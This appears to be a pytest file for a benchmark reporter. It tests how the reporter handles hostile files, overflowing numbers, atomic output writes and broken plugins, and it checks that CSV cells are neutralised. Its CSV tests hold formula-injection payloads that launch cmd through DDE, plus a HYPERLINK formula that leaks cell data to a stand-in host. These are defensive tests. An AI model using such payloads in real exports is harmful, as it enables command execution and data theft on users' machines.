"""The reporter in a shared, damaged or hostile results folder (issue 18): special and huge files
are never read whole, damaged numbers skip their record with one warning, CSV cells never run
as spreadsheet formulas, --out is written atomically, a broken suite plugin is named."""

from __future__ import annotations

import csv
import importlib.metadata
import io
import json
import os
import resource
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from petlbench.cli import main
from petlbench.data import suites as suites_mod
from petlbench.report import load_records, markdown_table
from tests.report.factory import make_record, write_records
from tests.test_reliability_round3 import finishes

REPO = Path(__file__).resolve().parents[2]


def report(*args: str):
    return CliRunner().invoke(main, ["report", *args])


def one_error_line(result) -> str:
    assert result.exit_code == 2 and "Traceback" not in result.output, result.output
    lines = [ln for ln in result.output.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), result.output
    return lines[0]


def _folder(tmp_path: Path) -> Path:
    folder = tmp_path / "results"
    write_records(folder, [make_record("lora", "cifar", s, 70.0 + s) for s in (0, 1)])
    return folder


# ---------------------------------------------------------------------------- hostile files


@pytest.mark.parametrize("kind", ["fifo", "dev_zero", "sparse_3gb"])
def test_special_and_huge_files_are_skipped_unread(tmp_path: Path, kind: str) -> None:
    folder = _folder(tmp_path)
    bad = folder / "vtab" / "cifar" / "hostile.json"
    if kind == "fifo":
        os.mkfifo(bad)
    elif kind == "dev_zero":
        bad.symlink_to("/dev/zero")
    else:
        with open(bad, "wb") as fh:
            fh.truncate(3 * 10**9)
    result = finishes(lambda: report("--results", str(folder)), [bad] if kind == "fifo" else [])
    assert result.exit_code == 0, result.output
    if kind == "dev_zero":
        bad = Path("/dev/zero")  # records are named by their resolved path
    expected = {"fifo": "cannot be read (not a regular file but a FIFO (named pipe))",
                "dev_zero": "cannot be read (not a regular file but a character device)",
                "sparse_3gb": "not read: 3.0 GB, larger than any file petlbench writes there"}[kind]
    assert f"warning: skipping {bad}: {expected}" in result.stderr
    assert "LoRA" in result.stdout


@pytest.mark.parametrize(("field", "path"), [("top1", ("metrics", "top1")), ("trainable", ("params", "trainable")),
                                             ("seed", ("seed",)), ("peak memory", ("efficiency", "peak_gpu_mem_allocated")),
                                             ("failed run's seed", ("seed",))])
def test_400_digit_numbers_skip_their_record_with_one_warning(tmp_path: Path, field: str, path: tuple[str, ...]) -> None:
    folder = _folder(tmp_path)
    record = make_record("lora", "cifar", 2, 71.0, status="failed" if field.startswith("failed") else "ok")
    node = record
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = 10**400
    (bad,) = write_records(folder, [record])
    result = report("--results", str(folder), "--format", "csv", "--long")
    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
    dotted = ".".join(path)
    assert f"warning: skipping {bad}: field '{dotted}' holds an integer of 401 digits, out of range" in result.stderr
    assert len(list(csv.DictReader(io.StringIO(result.stdout)))) == 2  # the two good runs
    warnings: list[str] = []  # `petlbench run`'s summary table: the same rule, no OverflowError
    table = markdown_table([make_record("lora", "cifar", 0, 70.0), json.loads(bad.read_text())], suite="vtab",
                           on_warning=warnings.append)
    assert "LoRA" in table and len(warnings) == 1 and "401 digits" in warnings[0]


def test_numbers_longer_than_python_reads_are_a_corrupt_file(tmp_path: Path) -> None:
    folder = _folder(tmp_path)
    bad = folder / "long.json"
    bad.write_text(json.dumps(make_record("lora", "cifar", 2, 71.0)).replace('"seed": 2', '"seed": ' + "9" * 5000))
    loaded = load_records([folder], on_warning=lambda _w: None)
    assert len(loaded.records) == 2
    assert loaded.skipped == [(str(bad), "invalid JSON, corrupt (a number too long to read)")]


def test_where_nested_thousands_deep_is_one_line(tmp_path: Path) -> None:
    folder = _folder(tmp_path)
    line = one_error_line(report("--results", str(folder), "--where", "config.train=" + "[" * 5000 + "]" * 5000))
    assert "leaves no record" in line


# ---------------------------------------------------------------------------- CSV


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x.example\",\"click\")", "+cmd|' /C calc'!A0", "-2+3",
                                   "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
def test_formula_cells_are_neutralised(value: str) -> None:
    from petlbench.report.formats import csv_cell

    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-1.5", "+3", "-2e-3", "lora", "LoRA (r=8)", "", "a=b", 42, -3.5, None])
def test_other_cells_are_unchanged(value: Any) -> None:
    from petlbench.report.formats import csv_cell

    assert csv_cell(value) == value


@pytest.mark.parametrize("long", [False, True])
def test_csv_export_writes_no_formula(tmp_path: Path, long: bool) -> None:
    hostile = '=HYPERLINK("http://x.example/?leak="&A1,"details")'
    folder = tmp_path / "results"
    write_records(folder, [make_record(hostile, "cifar", s, 70.0 + s) for s in (0, 1)]
                  + [make_record("lora", "cifar", s, 20.0) for s in (0, 1)])
    result = report("--results", str(folder), "--format", "csv", "--names", "registry",
                    *(["--long"] if long else ["--reference", "paper"]))
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert "'" + hostile in cells
    assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r"))
                or (c.startswith(("+", "-")) and not _is_number(c))]


def test_csv_keeps_negative_numbers_and_neutralises_headers() -> None:
    """A delta column holds negative numbers: they stay numbers; a task named like a formula
    (from a suite file) is neutralised in the header too."""
    import pandas as pd

    from petlbench.report.formats import csv_safe

    frame = pd.DataFrame({"row": ["-x", "lora"], "=cmd() mean": [-3.25, 1.5], "note": ["-1.5", "@x"],
                          "n": pd.array([-2, None], dtype="Int64")})
    text = csv_safe(frame).to_csv(index=False, lineterminator="\n")
    assert text.splitlines() == ["row,'=cmd() mean,note,n", "'-x,-3.25,-1.5,-2", "lora,1.5,'@x,"]
    assert frame.columns[1] == "=cmd() mean"  # the caller's frame is not changed


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------------------- atomic --out


def test_a_failed_write_keeps_the_previous_report(tmp_path: Path) -> None:
    """A write that fails half-way (disk full; here a file-size limit) leaves the old report."""
    folder = _folder(tmp_path)
    out = tmp_path / "table.md"
    out.write_text("previous report\n")

    def small_files() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG instead of a signal
        resource.setrlimit(resource.RLIMIT_FSIZE, (200, 200))

    env = {**os.environ, "OMP_NUM_THREADS": "1", "PYTHONPATH": str(REPO)}
    proc = subprocess.run([sys.executable, "-m", "petlbench.cli", "report", "--results", str(folder), "--out", str(out)],
                          capture_output=True, text=True, env=env, preexec_fn=small_files, timeout=300)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and "error: cannot write --out" in proc.stderr
    assert out.read_text() == "previous report\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary left


def test_out_that_cannot_be_written_is_refused_before_reading(tmp_path: Path) -> None:
    folder = _folder(tmp_path)
    blocker = tmp_path / "file"
    blocker.write_text("x")
    line = one_error_line(report("--results", str(folder), "--out", str(blocker / "table.md")))
    assert "--out" in line and "below the file" in line  # and no warning: nothing was read
    done = report("--results", str(folder), "--out", str(tmp_path / "new" / "table.md"))
    assert done.exit_code == 0 and "LoRA" in (tmp_path / "new" / "table.md").read_text()


# ---------------------------------------------------------------------------- plugins


def test_a_broken_suite_plugin_is_named_not_reported_as_missing(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "mysuites_broken.py").write_text("import yaml_helpers_not_installed\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    ep = importlib.metadata.EntryPoint(name="mysuite", value="mysuites_broken", group="petlbench.suites")
    monkeypatch.setattr(suites_mod, "_entry_points", lambda: [ep])
    folder = tmp_path / "results"
    write_records(folder, [make_record("lora", "t1", 0, 70.0, suite="mysuite")])
    message = one_error_line(report("--results", str(folder)))
    assert "not registered here" not in message
    assert "suite plugin 'mysuite' (mysuites_broken" in message
    assert "ModuleNotFoundError: No module named 'yaml_helpers_not_installed'" in message
    ok = report("--results", str(_folder(tmp_path / "vtab-runs")))  # the other suites keep working
    assert ok.exit_code == 0 and "LoRA" in ok.stdout
